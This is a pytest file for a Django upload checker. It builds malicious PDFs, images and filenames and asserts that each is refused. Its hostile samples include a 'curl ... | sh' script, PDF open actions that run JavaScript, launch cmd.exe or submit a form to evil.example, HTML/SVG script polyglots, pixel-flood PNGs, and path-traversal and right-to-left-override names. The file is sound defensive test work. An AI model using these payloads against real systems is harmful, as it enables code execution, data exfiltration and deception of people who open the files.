"""Checks on uploaded portfolio files: good files pass, hostile ones are refused.

Every file is built here in code; no binary fixtures are committed.
"""

from __future__ import annotations

import io
import mimetypes
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.utils import translation
from PIL import ExifTags, Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript

from applications.intake.uploads import MAX_IMAGE_PIXELS, MAX_NAME_BYTES, MAX_UPLOAD_BYTES, check_upload, common, pdf
from tests.applications.raw_pdfs import CATALOG, PAGE, PAGES, raw_pdf, stream

JAPANESE = re.compile(r"[\u3000-\u303f\u3040-\u30ff\u4e00-\u9fff\uff00-\uffef]")


# --- Builders -----------------------------------------------------------------


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    """An upload named exactly `name`, with the type a browser would claim from it.

    Django's `UploadedFile` keeps only the last path component of a name. The
    raw name is put back so that the check is tested on exactly the name given:
    `check_upload` must not depend on who built the upload.
    """
    content_type = mimetypes.guess_type(name)[0] or "application/octet-stream"
    uploaded = SimpleUploadedFile("placeholder.bin", content, content_type=content_type)
    uploaded._name = name
    return uploaded


def make_pdf(writer: PdfWriter | None = None) -> bytes:
    """A valid one-page PDF written by pypdf."""
    if writer is None:
        writer = PdfWriter()
        writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def pdf_opening(action: bytes, *more: bytes) -> bytes:
    """A PDF whose catalog names ``action`` as its /OpenAction; ``more`` are objects 4, 5... it may refer to."""
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % action, PAGES, PAGE, *more)


def pdf_with_script_in_object_stream() -> bytes:
    """A PDF 1.5 file whose JavaScript action sits in a compressed object stream.

    The raw bytes show only `/OpenAction 4 0 R`; the script is visible only
    after the object stream is decompressed, which the parsed walk does.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    add(2, PAGES)
    add(3, PAGE)
    action = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    header = b"4 0 "
    packed = zlib.compress(header + action)
    add(
        5,
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(header), len(packed), packed),
    )
    xref_offset = len(out)
    offsets[6] = xref_offset
    entries = [struct.pack(">BIH", 0, 0, 65535)]
    for number in (1, 2, 3):
        entries.append(struct.pack(">BIH", 1, offsets[number], 0))
    entries.append(struct.pack(">BIH", 2, 5, 0))  # Object 4: index 0 in object stream 5.
    entries.append(struct.pack(">BIH", 1, offsets[5], 0))
    entries.append(struct.pack(">BIH", 1, offsets[6], 0))
    table = b"".join(entries)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(table),
        table,
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def make_image(
    image_format: str, size: tuple[int, int] = (48, 32), mode: str = "RGB", noise: bool = False, **save_options
) -> bytes:
    """A small image in `image_format`; with `noise`, random pixels that compress poorly."""
    if noise:
        rng = random.Random(0)  # noqa: S311 - repeatable noise, not a secret.
        data = rng.randbytes(size[0] * size[1] * len(mode))
        image = Image.frombytes(mode, size, data)
    else:
        image = Image.new(mode, size, "red" if mode == "RGB" else 1)
    buffer = io.BytesIO()
    image.save(buffer, format=image_format, **save_options)
    return buffer.getvalue()


def png_claiming_size(width: int, height: int) -> bytes:
    """A real 1x1 PNG whose IHDR is patched to claim `width` x `height`, with a correct CRC."""
    data = bytearray(make_image("PNG", size=(1, 1)))
    assert data[12:16] == b"IHDR"
    struct.pack_into(">II", data, 16, width, height)
    struct.pack_into(">I", data, 29, zlib.crc32(data[12:29]))
    return bytes(data)


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr("payload.exe", b"MZ" + b"\x00" * 64)
    return buffer.getvalue()


def exif_with_gps() -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "ExamplePhone"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (34.0, 47.0, 47.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (134.0, 59.0, 13.0)
    return exif


def assert_japanese_or_english(message: Any) -> None:
    """The message is Japanese on the Japanese site and an English sentence on the English one, never both."""
    with translation.override("ja"):
        japanese = str(message)
    with translation.override("en"):
        english = str(message)
    assert JAPANESE.search(japanese), japanese
    assert not re.search(r"[A-Za-z]{4,} [a-z]{3,}", japanese), japanese
    assert re.fullmatch(r"[A-Z][\x20-\x7e“”’]*\.", english), english


def refusal(uploaded: UploadedFile) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_upload(uploaded)
    return caught.value


# --- Good files -----------------------------------------------------------------


def test_good_pdf_is_accepted_unchanged():
    content = make_pdf()
    checked = check_upload(upload("職務経歴書.pdf", content))
    assert checked.kind == "pdf"
    assert checked.extension == ".pdf"
    assert checked.content == content
    assert checked.original_name == "職務経歴書.pdf"
    assert checked.size == len(content)
    assert len(checked.sha256) == 64


def test_pdf_opening_at_a_page_is_accepted():
    """An /OpenAction that is a destination (which page to show) runs nothing."""
    writer = pdf_writer()
    writer.open_destination = writer.pages[0]
    content = make_pdf(writer)
    assert b"/OpenAction" in content
    assert check_upload(upload("cv.pdf", content)).kind == "pdf"


def test_pdf_opening_with_a_goto_action_is_accepted():
    """An /OpenAction that only goes to a page of the document itself runs nothing."""
    content = pdf_opening(b"<< /S /GoTo /D [3 0 R /Fit] >>")
    assert check_upload(upload("cv.pdf", content)).kind == "pdf"


def test_dangerous_names_inside_stream_data_are_not_mistaken_for_actions():
    """Compressed streams are random bytes; `/JS` may turn up by chance and must not refuse a scan."""
    data = b"\x93\x01/JS /JavaScript /Launch\x88\x00 stream\n\xfe"
    content = raw_pdf(CATALOG, PAGES, PAGE, stream(data))
    assert check_upload(upload("scan.pdf", content)).kind == "pdf"


def test_good_jpeg_is_accepted_and_encoded_again():
    content = make_image("JPEG", noise=True, quality=95)
    checked = check_upload(upload("PHOTO.JPEG", content))
    assert checked.kind == "jpeg"
    assert checked.extension == ".jpg"
    assert checked.content != content
    with Image.open(io.BytesIO(checked.content)) as image:
        assert image.format == "JPEG"
        assert image.size == (48, 32)
    assert checked.size == len(checked.content)


def test_good_png_is_accepted_and_keeps_its_transparency():
    image = Image.new("P", (20, 10), 0)
    image.putpalette([255, 255, 255, 0, 0, 0] + [0] * 762)
    buffer = io.BytesIO()
    image.save(buffer, format="PNG", transparency=0)
    checked = check_upload(upload("logo.png", buffer.getvalue()))
    assert checked.kind == "png"
    assert checked.extension == ".png"
    with Image.open(io.BytesIO(checked.content)) as result:
        assert result.format == "PNG"
        assert result.size == (20, 10)
        assert result.info.get("transparency") == 0


def test_japanese_name_within_the_limit_is_accepted_and_normalised():
    name = "履歴書" * 21 + ".pdf"  # 193 bytes of UTF-8.
    assert len(name.encode()) <= MAX_NAME_BYTES
    assert check_upload(upload(name, make_pdf())).original_name == name
    decomposed = "カ\u3099イト.pdf"  # macOS sends names decomposed (NFD).
    assert check_upload(upload(decomposed, make_pdf())).original_name == "ガイト.pdf"


def test_image_with_gps_exif_is_returned_without_exif():
    content = make_image("JPEG", exif=exif_with_gps())
    with Image.open(io.BytesIO(content)) as original:
        assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    checked = check_upload(upload("photo.jpg", content))
    assert b"Exif" not in checked.content
    assert b"ExamplePhone" not in checked.content
    with Image.open(io.BytesIO(checked.content)) as image:
        assert "exif" not in image.info
        assert not image.getexif()


def test_exif_orientation_is_applied_before_exif_is_dropped():
    """Without EXIF a phone photo taken upright would lie on its side; turn the pixels instead."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # Rotate 90° clockwise to display.
    checked = check_upload(upload("portrait.jpg", make_image("JPEG", size=(40, 20), exif=exif)))
    with Image.open(io.BytesIO(checked.content)) as image:
        assert image.size == (20, 40)


def test_png_metadata_and_profile_are_dropped():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "taken at home, 34.69N 135.19E")
    content = make_image("PNG", pnginfo=info, icc_profile=b"not really a profile", exif=exif_with_gps())
    checked = check_upload(upload("chart.png", content))
    for marker in (b"tEXt", b"iCCP", b"eXIf", b"taken at home"):
        assert marker not in checked.content


def test_jpeg_with_zip_appended_is_accepted_without_the_zip():
    """Images are cleaned, not refused, for what follows their end.

    Many ordinary JPEGs carry bytes after the image (phone previews, editor
    leftovers), so refusing them would turn away honest applicants. Decoding
    the pixels and encoding them again removes whatever was appended, so the
    stored file is a plain image, never a ZIP or an HTML page in disguise.
    """
    image = make_image("JPEG", noise=True)
    content = image + zip_archive()
    assert zipfile.is_zipfile(io.BytesIO(content))
    checked = check_upload(upload("photo.jpg", content))
    assert b"PK\x03\x04" not in checked.content
    assert not zipfile.is_zipfile(io.BytesIO(checked.content))
    assert checked.content.endswith(b"\xff\xd9")
    with Image.open(io.BytesIO(checked.content)) as cleaned:
        cleaned.load()


def test_png_with_html_appended_is_refused():
    """HTML in any upload is refused (issue 19), even where re-encoding would have dropped it."""
    content = make_image("PNG") + b"<html><script>alert(1)</script></html>"
    assert refusal(upload("chart.png", content)).code == "html_content"


# --- Reading no more than the limit ---------------------------------------------


class EndlessPdf:
    """A stream that never ends and does not know its size; counts what is read."""

    def __init__(self) -> None:
        self.bytes_read = 0

    def read(self, size: int = -1) -> bytes:
        assert size > 0, "check_upload must never read without a limit"
        chunk = (b"%PDF-1.7\n" + b"0" * size)[:size]
        self.bytes_read += len(chunk)
        return chunk


def test_an_endless_stream_is_read_only_to_the_limit():
    stream = EndlessPdf()
    error = refusal(UploadedFile(file=stream, name="cv.pdf", content_type="application/pdf", size=None))
    assert error.code == "too_large"
    assert stream.bytes_read == MAX_UPLOAD_BYTES + 1


def test_a_declared_size_over_the_limit_is_refused_without_reading():
    stream = EndlessPdf()
    error = refusal(UploadedFile(file=stream, name="cv.pdf", content_type="application/pdf", size=MAX_UPLOAD_BYTES + 1))
    assert error.code == "too_large"
    assert stream.bytes_read == 0


# --- Hostile files ----------------------------------------------------------------


def encrypted_pdf() -> bytes:
    writer = pdf_writer()
    writer.encrypt("pw")
    return make_pdf(writer)


def pdf_with_javascript() -> bytes:
    writer = pdf_writer()
    writer.add_open_action(JavaScript("app.alert(1)"))
    return make_pdf(writer)


def pdf_with_attachment() -> bytes:
    writer = pdf_writer()
    writer.add_attachment("payload.exe", b"MZ" + b"\x00" * 64)
    return make_pdf(writer)


def real_jpeg() -> bytes:
    return make_image("JPEG", size=(64, 64), noise=True)


def one_bit_png(size: int) -> bytes:
    """A real 1-bit image; `size` x `size` white pixels compress to a few kilobytes."""
    return make_image("PNG", size=(size, size), mode="1")


#: Open actions a PDF may run when it is opened: (id, the action or a reference to it, the objects it refers to).
#: Issue 11, item 10: also those that reach out (a web address, a form sent, another file).
OPEN_ACTIONS = [
    ("pdf-openaction-javascript-raw", b"4 0 R", b"<< /S /JavaScript /JS (app.alert(1)) >>"),
    ("pdf-openaction-hex-escaped-names", b"<< /S /Java#53cript /J#53 (app.alert(1)) >>"),
    ("pdf-launch-action", b"<< /S /Launch /F (cmd.exe) >>"),
    ("pdf-openaction-uri", b"<< /S /URI /URI (https://evil.example/t) >>"),
    (
        "pdf-openaction-submitform-indirect",
        b"4 0 R",
        b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>",
    ),
    (
        "pdf-openaction-goto-then-uri",
        b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >>",
    ),
    ("pdf-openaction-remote-goto", b"<< /S /GoToR /F (\\\\evil.example\\share\\x.pdf) /D [0 /Fit] >>"),
]


HOSTILE: list = [
    # Executables and scripts under a document name.
    pytest.param("cv.pdf", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 1024, "unsupported_type", id="elf-named-cv.pdf"),
    pytest.param(
        "photo.jpg", lambda: b"MZ\x90\x00" + b"\x00" * 1024, "unsupported_type", id="windows-pe-named-photo.jpg"
    ),
    pytest.param(
        "a.pdf", lambda: b"#!/bin/sh\ncurl https://example.com/x | sh\n", "unsupported_type", id="shell-script"
    ),
    pytest.param(
        "cv.pdf",
        lambda: b"<html><body><script>alert(1)</script></body></html>",
        "unsupported_type",
        id="html-named-cv.pdf",
    ),
    pytest.param(
        "image.png",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "unsupported_type",
        id="svg-named-image.png",
    ),
    pytest.param(
        "drawing.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>', "bad_extension", id="svg-named-drawing.svg"
    ),
    pytest.param("image.png", lambda: make_image("GIF"), "unsupported_type", id="gif-named-image.png"),
    # PDFs that run code, carry files or hide another format.
    pytest.param("cv.pdf", pdf_with_javascript, "pdf_active_content", id="pdf-javascript-name-tree"),
    pytest.param(
        "cv.pdf", pdf_with_script_in_object_stream, "pdf_active_content", id="pdf-javascript-in-object-stream"
    ),
    *[
        pytest.param("cv.pdf", lambda objects=objects: pdf_opening(*objects), "pdf_active_content", id=name)
        for name, *objects in OPEN_ACTIONS
    ],
    pytest.param(
        "cv.pdf",
        lambda: raw_pdf(
            CATALOG,
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]"
            b" /AA << /O << /S /URI /URI (https://example.com/) >> >> >>",
        ),
        "pdf_active_content",
        id="pdf-page-additional-actions",
    ),
    pytest.param(
        "cv.pdf",
        lambda: raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /AA << /WC << /S /URI /URI (https://example.com/) >> >> >>", PAGES, PAGE
        ),
        "pdf_active_content",
        id="pdf-catalog-additional-actions",
    ),
    pytest.param(
        "form.pdf",
        lambda: raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA [] >> >>", PAGES, PAGE),
        "pdf_active_content",
        id="pdf-xfa-form",
    ),
    pytest.param("cv.pdf", pdf_with_attachment, "pdf_active_content", id="pdf-embedded-file"),
    pytest.param("cv.pdf", encrypted_pdf, "pdf_encrypted", id="pdf-encrypted"),
    pytest.param("cv.pdf", lambda: make_pdf() + zip_archive(), "pdf_polyglot", id="pdf-zip-polyglot"),
    pytest.param(
        "cv.pdf",
        lambda: make_pdf() + b"<html><script>alert(1)</script></html>\n",
        "pdf_polyglot",
        id="pdf-html-script-polyglot",
    ),
    pytest.param("cv.pdf", lambda: b"%PDF-1.7\n" + b"\x00garbage\xff" * 200, "pdf_damaged", id="pdf-damaged"),
    pytest.param("cv.pdf", lambda: make_pdf()[:200], "pdf_damaged", id="pdf-truncated"),
    pytest.param(
        "cv.pdf", lambda: raw_pdf(CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>"), "pdf_damaged", id="pdf-no-pages"
    ),
    # Images that would exhaust memory or cannot be decoded.
    pytest.param("flood.png", lambda: png_claiming_size(50_000, 50_000), "image_too_many_pixels", id="png-pixel-flood"),
    pytest.param("big.png", lambda: png_claiming_size(8_000, 6_000), "image_too_many_pixels", id="png-48-megapixels"),
    pytest.param("bomb.png", lambda: one_bit_png(10_000), "image_too_many_pixels", id="png-1-bit-100-megapixels"),
    pytest.param("photo.jpg", lambda: real_jpeg()[:200], "image_damaged", id="jpeg-truncated-200-bytes"),
    pytest.param("photo.jpg", lambda: real_jpeg()[: len(real_jpeg()) // 2], "image_damaged", id="jpeg-truncated-half"),
    pytest.param(
        "chart.png",
        lambda: png_claiming_size(1, 1)[:29] + b"\x00\x00\x00\x00" + png_claiming_size(1, 1)[33:],
        "image_damaged",
        id="png-bad-crc",
    ),
    # Size.
    pytest.param("cv.pdf", lambda: b"", "empty", id="empty-file"),
    pytest.param(
        "cv.pdf", lambda: b"%PDF-1.7\n" + b"0" * (MAX_UPLOAD_BYTES + 1 - 9), "too_large", id="oversize-10mb-plus-1"
    ),
    # Names.
    pytest.param("../../etc/passwd.pdf", make_pdf, "name_path", id="name-path-traversal"),
    pytest.param("..\\..\\windows\\cv.pdf", make_pdf, "name_path", id="name-backslash-traversal"),
    pytest.param("..", make_pdf, "name_path", id="name-dot-dot"),
    pytest.param("cv\x00.pdf", make_pdf, "name_control", id="name-nul"),
    pytest.param("cv\r\nX-Injected: 1.pdf", make_pdf, "name_control", id="name-crlf"),
    pytest.param("cv\u202efdp.exe", make_pdf, "name_control", id="name-rtl-override-exe"),
    pytest.param("photo\u202egnp.pdf", make_pdf, "name_control", id="name-rtl-override-pdf"),
    pytest.param("cv\u200b.pdf", make_pdf, "name_control", id="name-zero-width-space"),
    pytest.param("履歴書" * 33 + ".pdf", make_pdf, "name_too_long", id="name-301-bytes-japanese"),
    pytest.param("cv.pdf.exe", make_pdf, "bad_extension", id="name-double-extension"),
    pytest.param("cv", make_pdf, "bad_extension", id="name-no-extension"),
    pytest.param(".pdf", make_pdf, "bad_extension", id="name-only-extension"),
    pytest.param("cv.pdf ", make_pdf, "bad_extension", id="name-trailing-space"),
    # Content and name disagree.
    pytest.param("cv.pdf", lambda: make_image("PNG"), "type_mismatch", id="png-named-pdf"),
    pytest.param("photo.png", real_jpeg, "type_mismatch", id="jpeg-named-png"),
    pytest.param("photo.jpg", make_pdf, "type_mismatch", id="pdf-named-jpg"),
]


@pytest.mark.parametrize(("name", "build", "code"), HOSTILE)
def test_hostile_upload_is_refused(name: str, build: Callable[[], bytes], code: str):
    error = refusal(upload(name, build()))
    assert error.code == code
    assert len(error.messages) == 1
    assert_japanese_or_english(error.error_list[0].message)


def test_there_are_at_least_twenty_hostile_cases():
    assert len(HOSTILE) >= 20


ACTIVE_PDFS = [case for case in HOSTILE if case.values[2] == "pdf_active_content"]


@pytest.mark.parametrize(("name", "build", "code"), ACTIVE_PDFS)
def test_parsed_walk_finds_active_content_without_the_raw_scan(name: str, build: Callable[[], bytes], code: str):
    """Both looks are kept; the parsed walk alone must catch every active PDF."""
    assert pdf.parsed_pdf_is_active(PdfReader(io.BytesIO(build()), strict=False))


def test_script_in_object_stream_is_found_only_by_the_parsed_walk():
    """The raw byte scan cannot see into compressed object streams; the walk must."""
    content = pdf_with_script_in_object_stream()
    assert b"JavaScript" not in content
    assert not pdf.raw_pdf_has_active_names(content)
    assert pdf.parsed_pdf_is_active(PdfReader(io.BytesIO(content), strict=False))


def test_every_message_is_translated():
    for message in common.MESSAGES.values():
        assert_japanese_or_english(message)


def test_limits():
    assert MAX_UPLOAD_BYTES == 10 * 1024 * 1024
    assert MAX_IMAGE_PIXELS == 25_000_000  # a 6,000 x 4,000 photo; decoding one as RGBA takes 100 MB
    assert MAX_NAME_BYTES == 200


def test_truncated_images_are_refused_even_when_pillow_loads_truncated_images(monkeypatch):
    """WeasyPrint sets ImageFile.LOAD_TRUNCATED_IMAGES = True for the whole process when imported."""
    from PIL import ImageFile

    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    data = real_jpeg()
    assert refusal(upload("photo.jpg", data[: len(data) // 2])).code == "image_damaged"
    png = make_image("PNG", size=(64, 64), noise=True)
    assert refusal(upload("photo.png", png[: len(png) - 12])).code == "image_damaged"
